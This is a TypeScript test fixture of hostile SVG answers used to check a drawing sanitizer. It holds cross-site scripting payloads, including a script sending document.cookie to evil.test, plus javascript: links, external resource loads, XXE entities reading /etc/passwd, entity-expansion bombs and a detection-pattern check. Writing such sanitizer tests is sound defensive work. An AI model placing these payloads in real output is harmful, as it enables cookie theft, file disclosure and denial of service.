/**
 * Drawings a hostile or broken model might answer, for the sanitizer's suite,
 * the fake chat server (which answers some drawing requests with them) and
 * the suite that renders them into every format. Each is either cleaned into
 * something inert (`refused` absent) or refused for the reason `refused` matches.
 */

/** Nothing a reader's software could run or fetch: what every clean drawing must be free of. */
export function expectInert(drawing: string): void {
  // The SVG namespace is the one URL a drawing holds, and it is a name, not an address.
  const svg = drawing.replace(/ xmlns="http:\/\/www\.w3\.org\/2000\/svg"/g, '');
  expect(svg).not.toMatch(/<script|<foreignObject|<image|<use|<style|<a[\s>]|<animate|<set[\s>]|<iframe/i);
  expect(svg).not.toMatch(/\son\w+\s*=/i);
  expect(svg).not.toMatch(/href|javascript:|data:|http:|https:|file:|@import|expression\(/i);
  expect(svg).not.toMatch(/url\((?!#)/);
  expect(svg).not.toMatch(/<!DOCTYPE|<!ENTITY|&[a-z]+;/i);
}

/** `count` small filled circles: enough shapes for a drawing to count as a scene. */
export function sceneShapes(count: number): string {
  return Array.from(
    { length: count },
    (_, index) => `<circle cx="${40 + index * 60}" cy="200" r="24" fill="#3a7d44"/>`,
  ).join('');
}

const SCENE = sceneShapes(8);

export interface HostileDrawing {
  readonly answer: string;
  /** The reason it is refused; absent when it is cleaned into an inert drawing. */
  readonly refused?: RegExp;
}

export const HOSTILE_DRAWINGS: Readonly<Record<string, HostileDrawing>> = {
  script: {
    answer: `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 600 400">${SCENE}<script>fetch('https://evil.test/'+document.cookie)</script><script href="https://evil.test/x.js"/></svg>`,
  },
  'event handlers': {
    answer: `<svg viewBox="0 0 600 400" onload="alert(1)"><g onclick="alert(2)" onmouseover="alert(3)">${SCENE}</g><rect width="9" height="9" onerror="alert(4)"/></svg>`,
  },
  'javascript: and external hrefs': {
    answer:
      `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 600 400">${SCENE}` +
      '<a href="javascript:alert(1)"><rect width="9" height="9"/></a><a xlink:href="https://evil.test/"><circle r="3"/></a>' +
      '<image href="https://evil.test/tracker.png" width="10" height="10"/><image xlink:href="file:///etc/passwd"/>' +
      '<use href="https://evil.test/sprite.svg#x"/><use xlink:href="#a"/>' +
      '<linearGradient id="inherits" href="https://evil.test/g.svg#g"><stop offset="0" stop-color="#fff"/></linearGradient>' +
      '<rect width="9" height="9" fill="url(#inherits)"/></svg>',
  },
  'CSS url(http...) and style sheets': {
    answer:
      `<svg viewBox="0 0 600 400"><style>@import url(https://evil.test/a.css); rect { fill: url(https://evil.test/p.svg#p) }</style>${SCENE}` +
      '<rect width="9" height="9" style="fill:url(https://evil.test/p.svg#p);stroke:url(http://evil.test/s#s);background:url(//evil.test)"/>' +
      '<rect width="9" height="9" fill="url(https://evil.test/p.svg#p)" filter="url(https://evil.test/f.svg#f)" mask="url(#m)" clip-path="url(#c)"/></svg>',
  },
  foreignObject: {
    answer: `<svg viewBox="0 0 600 400">${SCENE}<foreignObject width="100" height="100"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.test/"></iframe><body xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)">x</body></foreignObject></svg>`,
  },
  animation: {
    answer: `<svg viewBox="0 0 600 400">${SCENE}<rect width="9" height="9"><animate attributeName="href" to="javascript:alert(1)"/><set attributeName="onclick" to="alert(1)"/></rect></svg>`,
  },
  'entity expansion': {
    answer:
      '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa">' +
      '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">' +
      '<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">' +
      `<!ENTITY xxe SYSTEM "file:///etc/passwd">]><svg viewBox="0 0 600 400">${SCENE}<desc>&e;&xxe;</desc></svg>`,
    // The answer is read from its <svg>: the DOCTYPE before it is left behind, and its entities are undeclared.
    refused: /not well-formed XML \(undefined entity/,
  },
  'a DOCTYPE inside the drawing': {
    answer: `<svg viewBox="0 0 600 400">${SCENE}</svg><!DOCTYPE svg [<!ENTITY a "b">]><svg>&a;</svg>`,
    refused: /DOCTYPE|not well-formed/,
  },
  'an undeclared entity': {
    answer: `<svg viewBox="0 0 600 400">${SCENE}<desc>&xxe;</desc></svg>`,
    refused: /not well-formed XML/,
  },
  '10 MB of path data': {
    answer: `<svg viewBox="0 0 600 400">${SCENE}<path d="M0 0${' L1 1'.repeat(2_000_000)}"/></svg>`,
    refused: /characters long; at most/,
  },
  'one path too long to draw': {
    answer: `<svg viewBox="0 0 600 400">${SCENE}<path fill="#000" d="M0 0${' L1 1'.repeat(5_000)}Z"/></svg>`,
  },
  '10,000 nested groups': {
    answer: `<svg viewBox="0 0 600 400">${'<g>'.repeat(10_000)}${SCENE}${'</g>'.repeat(10_000)}</svg>`,
    refused: /nests elements more than 24 deep/,
  },
  '3,000 empty groups': {
    answer: `<svg viewBox="0 0 600 400">${SCENE}${'<g/>'.repeat(3_000)}</svg>`,
    refused: /more than 2500 elements/,
  },
  'a drawing of nothing': {
    answer:
      '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 600 400"><rect width="100%" height="100%" fill="#fff"/></svg>',
    refused: /1 visible shape; a scene needs many more/,
  },
  'shapes painted with nothing': {
    answer: `<svg viewBox="0 0 600 400"><g fill="none">${sceneShapes(8).replace(/ fill="#3a7d44"/g, '')}</g></svg>`,
    refused: /0 visible shapes/,
  },
  'text instead of a picture': {
    answer: `<svg viewBox="0 0 600 400">${SCENE}<text x="10" y="20" font-family="url(https://evil.test/f.woff)">Buy now</text></svg>`,
  },
  'prefixed and nested svg': {
    answer: `<svg:svg xmlns:svg="http://www.w3.org/2000/svg"><svg:script>alert(1)</svg:script></svg:svg><svg viewBox="0 0 600 400">${SCENE}<svg onload="alert(1)"><script>alert(2)</script></svg></svg>`,
  },
  'CDATA and processing instructions': {
    answer: `<?xml-stylesheet href="https://evil.test/s.css"?><svg viewBox="0 0 600 400">${SCENE}<![CDATA[<script>alert(1)</script>]]></svg>`,
  },
};
